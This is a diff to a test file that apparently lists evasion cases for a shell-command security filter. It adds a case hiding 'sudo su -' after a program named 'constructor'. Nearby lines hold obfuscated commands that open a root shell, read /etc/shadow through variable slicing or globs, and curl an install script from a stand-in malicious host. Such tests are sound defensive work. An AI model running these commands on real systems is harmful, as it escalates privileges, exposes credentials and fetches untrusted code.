@@ -69,6 +69,7 @@ const evasions: [string, string[], string][] = [
   ['in a subshell', ['(sudo su)'], ROOT_SHELL],
   ['in an if', ['if true; then sudo -s; fi'], ROOT_SHELL],
   ['after &&', ['cd /tmp && sudo bash'], ROOT_SHELL],
+  ['after a program named like a JavaScript property', ['constructor -e x; sudo su -'], ROOT_SHELL],
   ['variable slice spelling a path', ['cat ${HOME:0:1}etc${HOME:0:1}shadow'], 'sw-cred-shadow-file'],
   ['glob for a sensitive file', ['cat /e?c/sh*w'], 'sw-cred-shadow-file'],
   ['uppercase URL and trailing dot', ['curl -s HTTP://DL.BAD-CDN.TOP./install.sh'], 'sw-ioc-contact'],
